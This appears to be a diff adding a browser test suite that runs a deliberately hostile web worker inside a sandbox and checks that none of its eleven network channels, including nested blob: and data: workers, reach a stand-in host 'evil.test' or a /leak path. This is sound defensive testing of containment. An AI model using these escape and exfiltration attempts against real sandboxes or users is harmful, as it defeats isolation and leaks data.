@@ -1,0 +1,114 @@
+// A deliberately hostile worker in the sealed cell: every way out that a worker has is tried, from the worker itself
+// and from workers nested in it. Each attempt is first shown to work where nothing is sealed.
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { BROWSERS, launch, partsPage, startSink } from "./harness.js";
+
+/** Runs in the worker: tries everything at both targets, answers `[{where, channel, outcome}]`. */
+function hostile(targets, where) {
+  const WAIT_MS = 2500;
+  const within = (start) => new Promise((settle) => {
+    setTimeout(() => settle("silent"), WAIT_MS);
+    const no = (error) => settle(`refused: ${error && (error.name || error.type) || error}`);
+    try { start(() => settle("reached"), no); } catch (error) { no(error); }
+  });
+  const promised = (start) => within((yes, no) => start().then(yes, no));
+  const channels = {
+    "fetch": (url) => promised(() => fetch(url)),
+    "fetch-no-cors": (url) => promised(() => fetch(url, { mode: "no-cors" })),
+    "fetch-keepalive": (url) => promised(() => fetch(url, { method: "POST", body: "x", mode: "no-cors", keepalive: true })),
+    "xhr": (url) => within((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", url); x.send(); }),
+    "websocket": (url) => within((yes, no) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = yes; s.onerror = no; }),
+    "eventsource": (url) => within((yes, no) => { const s = new EventSource(url); s.onopen = () => { s.close(); yes(); }; s.onerror = (e) => { s.close(); no(e); }; }),
+    "importscripts": (url) => within((yes) => { importScripts(`${url}.js`); yes(); }),
+    "import": (url) => promised(() => import(`${url}.js`)),
+    "worker": (url) => within((yes, no) => { const w = new Worker(`${url}.js`); w.onerror = no; w.onmessage = yes; }),
+    "fontface": (url) => promised(() => new FontFace("x", `url(${url})`).load()),
+    "caches": (url) => promised(async () => (await caches.open("x")).add(url)),
+  };
+  const run = async () => {
+    const seen = [];
+    await Promise.all(Object.entries(channels).flatMap(([channel, attempt]) => Object.entries(targets).map(async ([target, base]) => {
+      seen.push({ where, channel, target, outcome: await attempt(`${base}/${where}-${channel}`) });
+    })));
+    return seen;
+  };
+  const nest = (address, place) => new Promise((settle) => {
+    setTimeout(() => settle([{ where: place, channel: "start", outcome: "silent" }]), 2 * WAIT_MS);
+    const refused = (error) => settle([{ where: place, channel: "start", outcome: `refused: ${error.name || error.type}` }]);
+    try {
+      const worker = new Worker(address);
+      worker.onerror = refused;
+      worker.onmessage = ({ data }) => settle(data);
+      worker.postMessage({});
+    } catch (error) { refused(error); }
+  });
+  self.onmessage = async ({ data: { port } }) => {
+    self.onmessage = null;
+    if (where !== "first") { self.postMessage(await run()); return; }
+    port.postMessage({ v: 1, id: 0, ok: "started" });
+    const text = (place) => `(${hostile})(${JSON.stringify(targets)}, ${JSON.stringify(place)})`;
+    const all = await run();
+    all.push(...await nest(URL.createObjectURL(new Blob([text("nested")])), "nested"));
+    all.push(...await nest(`data:text/javascript,${encodeURIComponent(text("data"))}`, "data"));
+    port.postMessage({ all, beacon: typeof navigator.sendBeacon, rtc: typeof RTCPeerConnection, origin: self.origin });
+  };
+}
+
+const CHANNELS = ["fetch", "fetch-no-cors", "fetch-keepalive", "xhr", "websocket", "eventsource", "importscripts", "import", "worker", "fontface", "caches"];
+
+for (const kind of BROWSERS) {
+  describe(`a hostile worker in ${kind}`, () => {
+    let sink;
+    let driven;
+    let text;
+    before(async () => {
+      sink = await startSink();
+      driven = await launch({ browser: kind, sinkPort: sink.port, extra: { ...partsPage(), "/control.html": "<!doctype html><title>no policy</title>" } });
+      const targets = { sink: `http://evil.test:${sink.port}/leak`, own: `${driven.origin}/leak` };
+      text = `(${hostile})(${JSON.stringify(targets)}, "first")`;
+    });
+    after(async () => {
+      await driven?.remove();
+      sink?.close();
+    });
+
+    /** `first-fetch` and its like, as they arrived at either server. */
+    const arrived = () => [...sink.paths(), ...driven.server.hits].flatMap((line) => line.match(/\/leak\/([a-z-]+)/)?.[1] ?? []);
+
+    for (const airlock of [false, true]) test(`sealed, ${airlock ? "after the airlock closed" : "by the cell alone"}: everything is refused and nothing arrives`, async () => {
+      const page = await driven.openPage("/parts.html");
+      const heard = await page.evaluate(async (hostileText, closed) => {
+        const assets = closed ? (await window.parts.boot()).assets : await window.parts.loadAssets(window.parts.FILES);
+        const cell = await window.parts.openCell({ ...assets, engine: { ...assets.engine, text: hostileText } }, () => {});
+        return new Promise((settle) => { cell.port.onmessage = ({ data }) => settle(data); });
+      }, text, airlock);
+      for (const where of ["first", "nested"]) {
+        for (const channel of CHANNELS) {
+          const outcomes = heard.all.filter((one) => one.where === where && one.channel === channel);
+          assert.equal(outcomes.length, 2, `${where} ${channel} was not tried at both targets`);
+          for (const { outcome } of outcomes) assert.notEqual(outcome, "reached", `${where} ${channel}`);
+        }
+      }
+      assert.equal(heard.beacon, "undefined");
+      assert.equal(heard.rtc, "undefined");
+      assert.equal(heard.origin, "null");
+      assert.deepEqual(arrived(), []);
+      assert.deepEqual(sink.foreign(), [], "something connected to the sink");
+      await page.close();
+    });
+
+    test("control: where nothing is sealed, each attempt arrives", async () => {
+      const page = await driven.openPage("/control.html");
+      await page.evaluate((hostileText) => new Promise((settle) => {
+        const { port1, port2 } = new MessageChannel();
+        port1.onmessage = ({ data }) => { if (data.all) settle(); };
+        new Worker(URL.createObjectURL(new Blob([hostileText]))).postMessage({ port: port2 }, [port2]);
+      }), text);
+      const reached = new Set(arrived());
+      const missing = ["first", "nested"].flatMap((where) => CHANNELS.map((channel) => `${where}-${channel}`)).filter((name) => !reached.has(name));
+      assert.deepEqual(missing, []);
+      await page.close();
+    });
+  });
+}
